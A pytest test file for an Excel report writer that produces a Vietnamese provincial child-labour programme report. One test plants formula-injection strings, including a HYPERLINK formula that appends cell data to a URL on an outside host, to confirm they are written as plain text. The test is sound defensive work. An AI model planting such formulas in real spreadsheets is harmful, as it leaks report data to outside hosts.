"""The workbook opens with openpyxl, with its sheets, numbers in their cells and formats, and words where a
number is not shown (numbers in ``warehouse_state``); text never turns into a formula; a failed write leaves the
last good file."""

import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from tests.report import warehouse_state
from tests.report.conftest import PRODUCED_ON, PROVINCE
from tests.report.warehouse_state import TARGET_DOC
from warehouse.report import gather_report, write_workbook
from warehouse.schema.models import IndicatorValue, Target

SHEETS_VI = ["Tổng hợp", "Chỉ tiêu", "Xu hướng", "Theo xã", "Phân tổ", "Hoạt động", "Thanh tra",
             "Trường hợp", "Tình hình báo cáo", "Biểu đồ"]
SUPPRESSED = "Ẩn (dưới 5)"  # an indicator cell
HIDDEN = "Ẩn"  # a count of a summary


@pytest.fixture
def workbook(province_report, tmp_path):
    return load_workbook(write_workbook(province_report, tmp_path / "report.xlsx"))


def row_of(sheet, code: str, source: str, first_column: int = 1) -> int:
    """The row of indicator ``code`` from ``source`` (its label in column C)."""
    return next(row[0].row for row in sheet.iter_rows(min_row=2)
                if row[first_column - 1].value == code and row[2].value == source)


def test_sheets_and_title(workbook):
    assert workbook.sheetnames == SHEETS_VI
    summary = workbook["Tổng hợp"]
    assert summary["A1"].value == ("Báo cáo kết quả thực hiện Chương trình phòng ngừa, giảm thiểu lao động trẻ em "
                                   "năm 2026 — Tỉnh Lạng Sơn")
    assert summary["A3"].value == "Lập ngày 20/11/2026"
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes is not None, sheet.title


def test_indicators_against_targets(workbook):
    sheet = workbook["Chỉ tiêu"]
    assert sheet.freeze_panes == "C2"
    assert [c.value for c in sheet[1]][:6] == ["Mã", "Chỉ tiêu", "Nguồn số liệu", "Tử số", "Mẫu số",
                                               "Kết quả đạt được"]
    row = row_of(sheet, "1.1", "Khảo sát hộ gia đình")
    assert sheet[f"B{row}"].value == "Tỷ lệ lao động trẻ em và người chưa thành niên từ 5 đến 17 tuổi"
    assert (sheet[f"D{row}"].value, sheet[f"E{row}"].value) == (46, 382)
    assert sheet[f"F{row}"].value == pytest.approx(46 / 382) and sheet[f"F{row}"].number_format == "0.0%"
    assert (sheet[f"G{row}"].value, sheet[f"H{row}"].value) == (0.0915, 0.1569)
    assert [sheet[f"{c}{row}"].value for c in "IJKL"] == ["≤", 0.045, 2030, TARGET_DOC]
    assert sheet[f"M{row}"].value == pytest.approx(7.5419, abs=1e-4)  # percentage points
    assert sheet[f"N{row}"].value == "Chưa đạt"
    met = row_of(sheet, "2.2", "Khảo sát hộ gia đình")
    assert (sheet[f"D{met}"].value, sheet[f"E{met}"].value, sheet[f"N{met}"].value) == (300, 382, "Đạt chỉ tiêu")
    no_denominator = row_of(sheet, "2.1a", "Báo cáo hoạt động")
    assert [sheet[f"{c}{no_denominator}"].value for c in "DEFN"] == [12, "Chưa có mẫu số", "Chưa có mẫu số",
                                                                      "Chưa có mẫu số"]
    no_data = row_of(sheet, "1.3", "Theo dõi trường hợp")
    assert [sheet[f"{c}{no_data}"].value for c in "DEFIJKN"] == [None, None, "Chưa có số liệu", ">", 0.9, 2025,
                                                                  "Chưa có số liệu"]
    days = row_of(sheet, "4.2b", "Theo dõi trường hợp")
    assert (sheet[f"F{days}"].value, sheet[f"F{days}"].number_format) == (12.5, "0.0")


def test_suppressed_cells_are_words_never_zero(workbook):
    communes = workbook["Theo xã"]
    rows = {r[3].value: [c.value for c in r] for r in communes.iter_rows(min_row=2) if r[0].value == "1.1"}
    assert list(rows) == ["05977", "05983", "06001"]
    assert rows["05983"][4:8] == ["Phường Lương Văn Tri", SUPPRESSED, SUPPRESSED, SUPPRESSED]
    assert rows["05977"][5:7] == [20, 150]
    by_age = {r[4].value: [c.value for c in r] for r in workbook["Phân tổ"].iter_rows(min_row=2)}
    assert by_age["13–14 tuổi"][5:8] == [SUPPRESSED] * 3
    assert by_age["Nam"][5:7] == [17, 200]
    services = "Dịch vụ (buôn bán, ăn uống, vận tải...)"
    assert by_age[services][3:7] == ["Ngành của công việc", services, 25, 40]
    assert by_age["Công nghiệp, xây dựng"][5:8] == [SUPPRESSED] * 3
    assert by_age["Không làm việc"][5:7] == [0, 300]
    assert by_age["Trong làng nghề"][3:7] == ["Làng nghề", "Trong làng nghề", 20, 60]
    trend = {r[3].value: [c.value for c in r] for r in workbook["Xu hướng"].iter_rows(min_row=2) if r[0].value == "1.1"}
    assert list(trend) == ["2025", "2026", "2026-Q1", "2026-Q2"]
    assert trend["2026-Q2"][4:7] == [SUPPRESSED] * 3


def test_activities_inspections_cases(workbook):
    activities = workbook["Hoạt động"]
    assert [activities[f"B{r}"].value for r in range(2, 10)] == [3, 1, 100, 28, 42, 30, 85, 15]
    audiences = {r[0].value: [c.value for c in r[1:5]] for r in activities.iter_rows(min_row=18, max_row=20)}
    assert audiences == {"Trẻ em": [2, 40, 35, 0], "Cha mẹ, người chăm sóc trẻ": [1, 40, 35, 0],
                         "Cán bộ, công chức cấp xã (ngành lao động và các cơ quan liên quan)": [1, 20, 15, 15]}
    inspections = workbook["Thanh tra"]
    assert [inspections[f"B{r}"].value for r in range(2, 10)] == [10, 3, 6, 5, 3, HIDDEN, 7, HIDDEN]
    assert inspections["B2"].number_format == "#,##0"
    cases = workbook["Trường hợp"]
    assert [cases[f"B{r}"].value for r in range(2, 6)] == [10, 9, 6, HIDDEN]
    assert (cases["A9"].value, cases["B9"].value) == ("Trẻ em lao động trái quy định của pháp luật", 6)


def test_charts_draw_only_values_that_are_shown(workbook):
    sheet = workbook["Biểu đồ"]
    assert len(sheet._charts) == 2  # value against target; yearly trend
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2, max_row=5)] == [
        ["1.1 – Khảo sát hộ gia đình", pytest.approx(46 / 382), 0.045],
        ["1.2 – Theo dõi trường hợp", 0.9, 1.0],
        ["2.2 – Khảo sát hộ gia đình", pytest.approx(300 / 382), 0.7],
        ["4.2d – Theo dõi trường hợp", 0.4, None]]  # no target: no mark
    assert sheet["A6"].value is None


def test_english_workbook(province_report, tmp_path):
    workbook = load_workbook(write_workbook(province_report, tmp_path / "report.xlsx", language="en"))
    assert workbook.sheetnames == ["Summary", "Indicators", "Trend", "By commune", "Breakdowns", "Activities",
                                   "Inspections", "Cases", "Completeness", "Charts"]
    assert workbook["Summary"]["A1"].value == ("Progress report on the Programme on preventing and reducing child "
                                               "labour, 2026 — Tỉnh Lạng Sơn")
    sheet = workbook["Indicators"]
    row = row_of(sheet, "1.1", "Household survey")
    assert sheet[f"B{row}"].value == "Child-labour rate among children and minors aged 5–17"
    assert sheet[f"N{row}"].value == "Off track"
    assert workbook["Inspections"]["B3"].value == 3  # establishments found using child labour: never hidden
    assert workbook["Inspections"]["B9"].value == "Suppressed"  # 1.1h's cell of young child labourers


def test_commune_workbook_has_no_commune_breakdown(commune_report, tmp_path):
    workbook = load_workbook(write_workbook(commune_report, tmp_path / "report.xlsx"))
    assert "Theo xã" not in workbook.sheetnames
    assert workbook["Tổng hợp"]["A1"].value.endswith("— Phường Đông Kinh, thuộc Tỉnh Lạng Sơn")


def test_text_that_looks_like_a_formula_is_written_as_text(sqlite_engine, tmp_path):
    """A target's source document (uploaded by a data manager) starting with ``=`` never becomes a live formula."""
    hostile = {"1.1": '=HYPERLINK("http://example.org/x?"&B2,"Kế hoạch 99")', "1.2": "+1+1", "2.2": "-2+3",
               "1.3": "@SUM(A1)"}
    with sqlite_engine.begin() as conn:
        for indicator, text in hostile.items():
            conn.execute(update(Target).where(Target.indicator_id == indicator).values(source_document=text))
            conn.execute(update(IndicatorValue).where(IndicatorValue.indicator_id == indicator,
                                                      IndicatorValue.target_source.is_not(None))
                         .values(target_source=text))
    report = gather_report(sqlite_engine, PROVINCE, warehouse_state.YEAR, generated_on=PRODUCED_ON)
    path = write_workbook(report, tmp_path / "report.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    sheet = load_workbook(path)["Chỉ tiêu"]
    cells = [row[11] for row in sheet.iter_rows(min_row=2) if row[11].value in hostile.values()]
    assert {c.value for c in cells} == set(hostile.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_failure_mid_write_leaves_the_last_good_file(province_report, tmp_path, monkeypatch):
    path = write_workbook(province_report, tmp_path / "out" / "report.xlsx")
    good = path.read_bytes()

    def save_half(self, filename):
        Path(filename).write_bytes(good[:1000])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", save_half)
    with pytest.raises(OSError, match="No space left"):
        write_workbook(province_report, path)
    assert path.read_bytes() == good and [p.name for p in path.parent.iterdir()] == ["report.xlsx"]
